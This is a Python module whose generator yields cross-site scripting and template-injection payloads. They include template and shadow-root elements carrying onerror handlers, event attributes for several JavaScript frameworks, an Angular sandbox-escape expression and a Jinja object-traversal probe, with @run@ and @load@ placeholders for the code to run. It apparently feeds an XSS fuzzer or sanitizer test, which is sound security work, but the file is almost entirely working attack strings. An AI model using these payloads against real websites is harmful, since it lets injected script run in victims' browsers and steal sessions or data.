"""Templates: elements of the browser's, and expressions of engines that a reader may run."""

from __future__ import annotations

from collections.abc import Iterator


def payloads() -> Iterator[str]:
    run = "<img src=x onerror=@run@>"
    yield f"<template>{run}</template>"
    yield f"<template shadowrootmode=open>{run}</template>"
    yield f"<div><template shadowrootmode=open>{run}<slot></slot></template>words</div>"
    yield f"<div><template shadowroot=open>{run}</template></div>"
    yield f"<template><template shadowrootmode=closed>{run}</template></template>"
    yield "<p><template shadowrootmode=open><style>@import '@load@'</style></template>words</p>"
    yield "<slot onslotchange=@run@>words</slot>"
    yield f"<template></template>{run}"
    yield "<template><script>@run@</script>"
    yield f"<table><template><tr>{run}</template></table>"
    yield f"<select><template>{run}</template></select>"
    yield f"<template><svg></template>{run}</svg>"
    yield f"<svg><template>{run}</template></svg>"
    yield f"<script type=text/template>{run}</script>"
    yield f"<script type=text/x-handlebars><img src=x onerror=@run@></script>{run}"
    yield "<x-app><p is=x-app onclick=@run@>words</p></x-app>"
    yield "<p is=img src=x onclick=@run@ tabindex=0>words</p>"
    for expression in (
        "{{constructor.constructor('@run@')()}}",
        "{{@run@}}",
        "{{{@run@}}}",
        "${@run@}",
        "#{@run@}",
        "<%= @run@ %>",
        "{%raw%}{{x}}{%endraw%}",
        "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };@run@//')}}",
        "[[@run@]]",
        "*{@run@}",
        "{php}@run@{/php}",
        "{{config.__class__.__init__.__globals__}}",
    ):
        yield f"<p ng-app>{expression}</p>"
    for attribute in (
        'ng-app ng-init="@run@"',
        'ng-app ng-click="$event.view.@run@"',
        'v-on:click="@run@"',
        '@click="@run@"',
        'x-data x-init="@run@"',
        'hx-on:click="@run@"',
        'hx-get="@load@" hx-trigger=load',
        'data-bind="click:@run@"',
        'data-ng-bind-html="x"',
        '_="on click call @run@"',
        'on-click="@run@"',
        '(click)="@run@"',
        'on:click="@run@"',
        'data-toggle=tooltip data-html=true title="<img src=x onerror=@run@>"',
        'uk-tooltip="<script>@run@</script>"',
        'data-src="javascript:@run@"',
        'aria-label="&lt;img src=x onerror=@run@&gt;"',
        'contenteditable onbeforeinput="@run@"',
        'itemprop="@run@" itemscope',
        'slot="x" part="y" exportparts="z" nonce="@n@"',
    ):
        yield f"<p {attribute}>words</p>"
